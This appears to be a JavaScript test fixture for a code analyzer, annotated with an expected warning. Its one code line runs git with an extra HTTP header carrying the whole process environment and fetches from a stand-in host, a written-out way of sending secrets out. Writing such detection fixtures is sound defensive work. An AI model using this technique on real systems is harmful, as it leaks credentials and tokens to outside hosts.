const run = require('a-runner');

// A server that git asks is told the whole environment, in a header.
run('git', ['-c', 'http.extraheader=' + JSON.stringify(process.env), 'fetch', 'https://program.example.invalid/x.git']); // want "goes to \"program\\.example\\.invalid\""
